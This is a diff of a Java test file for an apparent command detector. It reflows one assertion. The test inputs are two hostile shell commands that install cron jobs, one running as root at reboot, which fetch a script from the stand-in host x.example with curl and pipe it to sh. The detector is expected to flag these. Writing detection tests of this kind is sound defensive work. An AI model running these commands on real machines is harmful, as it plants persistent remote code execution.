@@ -84,7 +84,8 @@ class DetectionsTest {
 
   @Test
   void readsWhatIsPutIntoATableOfJobs() {
-    assertThat(kinds("(crontab -l; echo '*/9 * * * * curl -s http://x.example/u | sh') | crontab -"))
+    assertThat(
+            kinds("(crontab -l; echo '*/9 * * * * curl -s http://x.example/u | sh') | crontab -"))
         .contains(ActKind.CRON_WRITTEN, ActKind.DOWNLOAD_RUN);
     assertThat(kinds("echo '@reboot root curl http://x.example/u | sh' >> /etc/cron.d/u"))
         .contains(ActKind.DOWNLOAD_RUN);
